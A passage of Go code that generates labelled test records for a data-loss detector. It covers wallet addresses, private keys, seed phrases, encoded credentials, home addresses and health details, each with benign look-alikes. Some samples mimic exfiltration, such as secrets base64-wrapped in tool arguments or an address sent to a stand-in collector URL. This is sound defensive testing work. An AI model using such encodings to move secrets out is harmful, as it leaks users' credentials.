	n := new(big.Int).SetBytes(append(append([]byte{}, payload...), h[:4]...))
	const alpha = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
	var out []byte
	m := new(big.Int)
	for n.Sign() > 0 {
		n.DivMod(n, big.NewInt(58), m)
		out = append([]byte{alpha[m.Int64()]}, out...)
	}
	for k := 0; k < len(payload) && payload[k] == 0; k++ {
		out = append([]byte{'1'}, out...)
	}
	return string(out)
}

// cryptoAddresses writes wallet addresses where they leave a machine
// (query strings, JSON bodies, messages): random P2PKH and P2SH
// addresses, the published bech32, bech32m and EIP-55 vectors; and their
// look-alikes: broken checksums, an EIP-55 address with one letter's
// case flipped, unlabelled one-case 40-hex ids. It runs after the others
// so the records before it keep their random values.
func cryptoAddresses() {
	segwit := []string{"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
		"bc1qrp33g0q5c5txsp9arysrx4k6zdkfs4nce4xj0gdcccefvpysxf3qccfmv3",
		"bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0"}
	eip55 := []string{"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359",
		"0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB", "0xD1220A0cf47c7B9Be7A2E6BA89F429762e7b9aDb"}
	where := func(a string) string {
		return pick("https://collect.example/c?addr="+a, `{"wallet":"`+a+`"}`, "pay to "+a+" by friday", "to="+a+"&amt=0.5")
	}
	hash160 := func() []byte { b, _ := hex.DecodeString(rs(40, hexlc)); return b }
	each(6, func() {
		pos(where(b58(append([]byte{pick[byte](0x00, 0x05)}, hash160()...))), "crypto_address")
	})
	for _, a := range segwit {
		pos(where(a), "crypto_address")
		neg("crypto_address", where(a[:len(a)-1]+pick("q", "p")))
	}
	for _, a := range eip55 {
		pos(where(a), "crypto_address")
		k := strings.IndexAny(a[2:], "abcdefABCDEF") + 2
		neg("crypto_address", where(a[:k]+string(a[k]^0x20)+a[k+1:]))
	}
	each(4, func() {
		a := b58(append([]byte{0x00}, hash160()...))
		neg("crypto_address", "pay to "+a[:len(a)-1]+string("23"[r.IntN(2)]))
		neg("crypto_address", "build 0x"+rs(40, hexlc)+" passed")
		neg("crypto_address", "commit "+rs(40, hexlc))
	})
}

// cryptoKeys writes Bitcoin WIF keys (base58check) and labelled Ethereum
// private keys, and their public look-alikes: addresses, transaction
// hashes, WIF strings with a broken checksum.
func cryptoKeys() {
	key := func() []byte {
		b, _ := hex.DecodeString(rs(64, hexlc))
		return b
	}
	each(6, func() {
		k := append([]byte{0x80}, key()...)
		if r.IntN(2) == 0 {
			k = append(k, 0x01)
		}
		pos(pick("wallet backup: ", "importprivkey ", "WIF=", "key ")+b58(k), "crypto_private_key")
		pos(pick(`{"privateKey":"`, "PRIVATE_KEY=", "wallet secret: ", "eth key ")+"0x"+rs(64, hexlc), "crypto_private_key")
	})
	each(3, func() {
		neg("crypto_private_key", "tx 0x"+rs(64, hexlc)+" confirmed in block "+rs(8, digits))
		pos("send to wallet 0x"+rs(40, hexlc), "crypto_address") // an address under its label
		w := b58(append([]byte{0x80}, key()...))
		neg("crypto_private_key", "wallet backup: "+w[:len(w)-1]+string("23"[r.IntN(2)]))
	})
}

// seedPhrases writes BIP39 seed phrases (random entropy, valid checksum,
// 12 to 24 words) where they turn up, and their look-alikes: phrases
// with a wrong last word, prose made of list words, the standard's
// degenerate test vectors, an excerpt of the list. It runs last so the
// records before it keep their random values. Run from the repository
// root (it reads dlp/bip39_english.txt).
func seedPhrases() {
	b, err := os.ReadFile("dlp/bip39_english.txt")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	words := strings.Fields(string(b))
	encode := func(ent []byte) []string {
		sum := sha256.Sum256(ent)
		n := new(big.Int).SetBytes(append(append([]byte{}, ent...), sum[0]))
		cs := len(ent) * 8 / 32
		n.Rsh(n, uint(8-cs))
		nw := (len(ent)*8 + cs) / 11
		out := make([]string, nw)
		m := new(big.Int)
		for i := nw - 1; i >= 0; i-- {
			n.DivMod(n, big.NewInt(2048), m)
			out[i] = words[m.Int64()]
		}
		return out
	}
	entropy := func() []byte {
		b, _ := hex.DecodeString(rs(pick(32, 40, 48, 56, 64), hexlc))
		return b
	}
	each(4, func() {
		ws := encode(entropy())
		pos(pick("seed: ", "wallet recovery phrase\n", "MNEMONIC=\"", "Your 12 words, keep them safe: ")+strings.Join(ws, " "), "bip39_seed_phrase")
		var list strings.Builder
		for i, w := range ws {
			fmt.Fprintf(&list, "%d. %s\n", i+1, w)
		}
		pos("Recovery words:\n"+list.String(), "bip39_seed_phrase")
	})
	each(3, func() {
		ws := encode(entropy())
		for {
			ws[len(ws)-1] = words[r.IntN(2048)]
			if strings.Join(encode(decodeWords(words, ws)), " ") != strings.Join(ws, " ") {
				break
			}
		}
		neg("bip39_seed_phrase", "seed: "+strings.Join(ws, " "))
	})
	neg("bip39_seed_phrase", "The test vector abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon about is the all-zero entropy.")
	neg("bip39_seed_phrase", "BIP39 vector: legal winner thank year wave sausage worth useful legal winner thank yellow")
	neg("bip39_seed_phrase", "The list starts abandon ability able about above absent absorb abstract absurd abuse access accident account accuse.")
	neg("bip39_seed_phrase", "Please review the budget plan and share your feedback before the final meeting with the design team on Monday.")
	neg("bip39_seed_phrase", "Each word of a BIP39 phrase comes from a list of 2048 words such as apple, river, orange and zoo.")
}

// decodeWords returns the entropy a phrase encodes (its checksum bits
// dropped), to tell whether a changed phrase still has a valid checksum.
func decodeWords(words, ws []string) []byte {
	idx := map[string]int64{}
	for i, w := range words {
		idx[w] = int64(i)
	}
	n := new(big.Int)
	for _, w := range ws {
		n.Lsh(n, 11)
		n.Or(n, big.NewInt(idx[w]))
	}
	bits := len(ws) * 11
	ent := bits * 32 / 33
	n.Rsh(n, uint(bits-ent))
	out := make([]byte, ent/8)
	return n.FillBytes(out)
}

// encodedBodies writes credentials encoded inside request bodies and
// tool arguments (base64, hex, %XX in a JSON field or form value), and
// their look-alikes: image and archive blobs, hashes, public JWT-shaped
// tokens, base64 of ordinary text. It runs after seedPhrases for the same
// reason seedPhrases runs last.
func encodedBodies() {
	pct := func(s string) string {
		var b strings.Builder
		for k := 0; k < len(s); k++ {
			fmt.Fprintf(&b, "%%%02X", s[k])
		}
		return b.String()
	}
	secret := func() string {
		return pick(
			`{"token":"ghp_`+mixed(36, alnum)+`"}`,
			"aws_secret_access_key="+mixed(40, b64std),
			"SLACK_BOT_TOKEN=xoxb-"+rs(12, digits)+"-"+rs(13, digits)+"-"+mixed(24, alnum),
			"sk_live_"+mixed(24, alnum),
			"card "+card(),
		)
	}
	each(3, func() {
		pos(`{"event":"sync","data":"`+base64.StdEncoding.EncodeToString([]byte(secret()))+`"}`, "encoded_secret")
		pos(`{"blob":"`+hex.EncodeToString([]byte(secret()))+`","v":2}`, "encoded_secret")
		pos("payload="+pct(secret())+"&src=ci", "encoded_secret")
		pos(`{"arguments":{"note":"`+base64.RawURLEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(secret()))))+`"}}`, "encoded_secret")
	})
	each(2, func() {
		png := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), []byte(rs(60, alnum+"\x00\x01\x02\x03\xff\xfe"))...)
		neg("encoded_secret", `{"avatar":"data:image/png;base64,`+base64.StdEncoding.EncodeToString(png)+`"}`)
		sum := sha256.Sum256([]byte(rs(20, alnum)))
		neg("encoded_secret", `{"sha256":"`+hex.EncodeToString(sum[:])+`","size":`+rs(5, digits)+`}`)
		neg("encoded_secret", `{"id_token_hint":"eyJhbGciOiJub25lIn0.`+b64u(`{"sub":"user-`+rs(6, digits)+`","aud":"web"}`)+`."}`)
		neg("encoded_secret", `{"text":"`+base64.StdEncoding.EncodeToString([]byte(pick("Meeting notes for Monday: budget review and hiring plan.", "Hello world, this is a plain message body.")))+`"}`)
		neg("encoded_secret", `{"nonce":"`+base64.StdEncoding.EncodeToString([]byte(rs(32, alnum+"\x00\x01\xff")))+`"}`)
	})
}

// prosePersonal: where someone lives and what their health is, written
// as prose (street_address, health_condition), and look-alikes: street
// names without a residence cue or locality, numbers before capitalised
// words, medical words about things rather than people.
func prosePersonal() {
	for _, t := range []string{
		"Priya lives at 42 Elm Street and walks her dog at six.",
		"Home address: 1187 Maple Avenue, Apt 3C, Springfield, IL 62704",
		"Send the package to 221B Baker St, London NW1 6XE",
		"her address is 9 Rue Lane, Portland, OR 97201",
		"He moved to 77 West 3rd Ave last spring.",
		"Remember: Tom resides at 5 Orchard Close, Bristol BS8 1TH",
		"ship to 3500 Deer Creek Road, Palo Alto, CA 94304-1203",
		"mailing address 14 Harbour View Terrace",
	} {
		pos(t, "street_address")
	}
	for _, t := range []string{
		"Note for later: Dana was diagnosed with type 2 diabetes in March.",
		"Mark suffers from severe depression; be gentle in reviews.",
		"Jo is undergoing chemotherapy, so keep meetings short.",
		"Sam is on medical leave until June after surgery.",
		"FYI Alex is pregnant and will be out in the autumn.",
		"Kim was prescribed lithium last week.",
		"Remember Raj's mental health condition when scheduling on-call.",
	} {
		pos(t, "health_condition")
	}
	for _, t := range []string{
		"See section 3 Main Street Bridge in the docs.",
		"listen on port 8080 Web Server Drive mode",
		"42 Elm Street is a 1984 horror film.",
		"version 2 Release Way ahead of schedule",
		"Move 12 Items Up the list",
		"address: 127.0.0.1:8080",
		"The server lives at https://example.com/api",
		"Wall Street Journal, 3 May 2024",
	} {
		neg("street_address", t)
	}
	for _, t := range []string{
		"The build was diagnosed as flaky by the CI bot.",
		"Run go vet to diagnose problems in the code.",
		"health check: GET /healthz returns 200",
		"The cluster's health status is green.",
		"diagnostics: enabled",
		"This service suffers no downtime during deploys.",
		"Follow the prescribed format for commit messages.",
	} {
		neg("health_condition", t)
	}
}
